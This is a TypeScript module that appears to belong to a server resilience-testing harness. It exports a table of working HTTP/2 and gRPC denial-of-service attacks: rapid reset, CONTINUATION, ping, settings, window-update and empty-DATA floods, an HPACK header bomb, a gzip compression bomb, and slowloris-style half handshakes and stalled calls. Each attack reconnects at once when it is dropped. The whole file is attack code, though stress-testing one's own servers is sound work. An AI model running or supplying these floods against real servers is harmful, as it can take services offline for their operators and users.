/** The attacks: each goes on until it is told to stop, and comes back as fast as it can when it is thrown out. */
import { gzipSync } from "node:zlib";
import { EMPTY, GET, LIST, WATCH } from "./calls.ts";
import { callHeaders, END_HEADERS, END_STREAM, field, frame, message, NEWEST, ping, reset, settings, windowUpdate } from "./frames.ts";
import { openHttp2, openTcp, type RawConnection, type Target } from "./raw-connection.ts";

const BATCH = 500;
const AGAIN_MS = 20;
const BOMB_BYTES = 64 << 20;

export type Attack = (target: Target, signal: AbortSignal) => Promise<void>;

const pause = (ms: number) => new Promise((resolve) => (ms === 0 ? setImmediate(resolve) : setTimeout(resolve, ms)));
const repeated = (one: Buffer, count = BATCH) => Buffer.concat(Array.from({ length: count }, () => one));

/** Several connections at once; each is used until it is cut. `batch` makes what is sent next, by the first stream that is free. */
function flood(batch: (stream: number) => { bytes: Buffer; streams: number }, { connections = 4, betweenMs = 0 }: { connections?: number; betweenMs?: number } = {}): Attack {
  const used = async (connection: RawConnection, signal: AbortSignal) => {
    for (let stream = 1; connection.isOpen && !signal.aborted;) {
      const { bytes, streams } = batch(stream);
      await connection.send(bytes);
      stream += 2 * streams;
      await pause(betweenMs);
    }
  };
  const one = async (target: Target, signal: AbortSignal) => {
    while (!signal.aborted) {
      const connection = await openHttp2(target);
      if (connection) await used(connection, signal);
      connection?.close();
      await pause(AGAIN_MS);
    }
  };
  return async (target, signal) => void (await Promise.all(Array.from({ length: connections }, () => one(target, signal))));
}

const same = (bytes: Buffer) => () => ({ bytes, streams: 0 });
const streams = (from: number, count: number, make: (stream: number) => Buffer) => ({
  bytes: Buffer.concat(Array.from({ length: count }, (_, n) => make(from + 2 * n))), streams: count,
});

const get = callHeaders(GET);
const opening = (stream: number) => frame("headers", get, { stream, flags: END_HEADERS });
const whole = (path: string) => {
  const head = callHeaders(path);
  return (stream: number) => Buffer.concat([frame("headers", head, { stream, flags: END_HEADERS }), message(EMPTY, { stream })]);
};

/** One entry of the decoder's table, as large as it takes, named again and again in one byte each. */
const headerBomb = Buffer.concat([get, field("x-bomb", "b".repeat(3_900), { indexed: true }), repeated(NEWEST, 12_000)]);
/** Sixty-four mebibytes in some sixty kibibytes. */
const bomb = gzipSync(Buffer.alloc(BOMB_BYTES));
const zipped = callHeaders(GET, { "grpc-encoding": "gzip" });

/** Keeps connections open without ever finishing what it began, as many as it is let have. */
function slow(begin: (target: Target) => Promise<RawConnection | undefined>, byte: Buffer): Attack {
  return async (target, signal) => {
    const held: RawConnection[] = [];
    while (!signal.aborted) {
      const connection = await begin(target);
      if (connection) held.push(connection);
      else await pause(AGAIN_MS);
      if (held.length % 50 === 0) for (const each of held) await each.send(byte);
    }
    for (const each of held) each.close();
  };
}

/** Opens the calls, and reads nothing that they answer. */
function stalled(path: string, calls: number): Attack {
  const call = whole(path);
  return async (target, signal) => {
    const held: RawConnection[] = [];
    while (!signal.aborted) {
      const connection = await openHttp2(target, { initialWindow: 0 });
      await connection?.send(streams(1, calls, call).bytes);
      if (connection) held.push(connection);
      await pause(AGAIN_MS);
    }
    for (const each of held) each.close();
  };
}

/** The first bytes of a TLS record that never comes. */
const HALF_HELLO = Buffer.from([0x16, 0x03, 0x01, 0x02, 0x00, 0x01]);

const halfHandshake = async (target: Target) => {
  const connection = await openTcp(target);
  await connection?.send(HALF_HELLO);
  return connection;
};

const halfRequest = async (target: Target) => {
  const connection = await openHttp2(target);
  await connection?.send(streams(1, 100, opening).bytes);
  return connection;
};

export const ATTACKS = {
  /** What the measure itself makes of a quiet server. */
  nothing: async (_target, signal) => {
    while (!signal.aborted) await pause(AGAIN_MS);
  },
  "rapid-reset": flood((from) => streams(from, BATCH, (stream) => Buffer.concat([opening(stream), reset(stream)]))),
  "continuation-flood": flood((stream) => ({
    bytes: Buffer.concat([frame("headers", get, { stream }), repeated(frame("continuation", field("x-more", "m".repeat(200)), { stream }))]), streams: 0,
  })),
  "ping-flood": flood(same(repeated(ping()))),
  "settings-flood": flood(same(repeated(settings({ initialWindow: 65_535 })))),
  "window-flood": flood(same(repeated(windowUpdate(0)))),
  "empty-data-flood": flood((stream) => ({ bytes: Buffer.concat([opening(stream), repeated(frame("data", Buffer.alloc(0), { stream }))]), streams: 1 })),
  "header-bomb": flood((from) => streams(from, 10, (stream) => frame("headers", headerBomb, { stream, flags: END_HEADERS | END_STREAM }))),
  "compression-bomb": flood((from) => streams(from, 4, (stream) => Buffer.concat([frame("headers", zipped, { stream, flags: END_HEADERS }), message(bomb, { stream, compressed: true })]))),
  "slow-handshakes": slow(halfHandshake, Buffer.from([0])),
  "slow-requests": slow(halfRequest, ping()),
  "stalled-lists": stalled(LIST, 100),
  "stalled-watches": stalled(WATCH, 100),
  "busy-user": flood((from) => streams(from, 25, whole(GET)), { betweenMs: 100 }),
} satisfies Record<string, Attack>;

export type AttackName = keyof typeof ATTACKS;
